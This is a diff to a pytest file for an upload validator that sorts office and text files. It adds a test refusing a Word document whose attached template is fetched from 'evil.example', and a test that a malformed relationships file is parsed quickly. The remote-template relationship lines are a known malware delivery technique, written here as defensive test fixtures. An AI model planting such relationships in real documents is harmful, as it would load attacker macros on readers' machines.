@@ -1,6 +1,8 @@
 """Files that groups keep: told apart by content, held to their name, and refused with a reason."""
 
 import io
+import os
+import time
 import zipfile
 
 import pytest
@@ -69,8 +71,14 @@ def test_anything_else_is_refused_and_says_why(name: str, data: bytes, fault: Fi
     assert refused.value.fault is fault
 
 
-def test_a_template_that_is_fetched_elsewhere_is_refused() -> None:
-    far = b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+@pytest.mark.parametrize(
+    "far",
+    [
+        b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
+        b'<Relationship TargetMode = "External" Target="https://evil.example/t.dotm" Type="x/attachedTemplate"/>',
+    ],
+)
+def test_a_template_that_is_fetched_elsewhere_is_refused(far: bytes) -> None:
     with pytest.raises(NotTaken) as refused:
         paper("a.docx", docx(**{"word___rels__settings.xml.rels": far}))
     assert refused.value.fault is FileFault.MACROS
@@ -123,3 +131,10 @@ def test_whoever_brings_an_office_file_hears_whose_names_stand_in_it() -> None:
 def test_a_text_is_kept_in_letters_that_everybody_reads() -> None:
     assert paper("a.txt", "é €".encode("cp1252")).content == "é €".encode()
     assert paper("a.csv", b"\xef\xbb\xbfnaam").content == b"naam"
+
+
+def test_a_list_of_templates_without_end_costs_no_time() -> None:
+    endless = docx(**{"word___rels__settings.xml.rels": b"attachedTemplate" * 60_000, "x": os.urandom(20_000)})
+    started = time.process_time()
+    assert paper("a.docx", endless).kind is PaperKind.DOCX
+    assert time.process_time() - started < 1
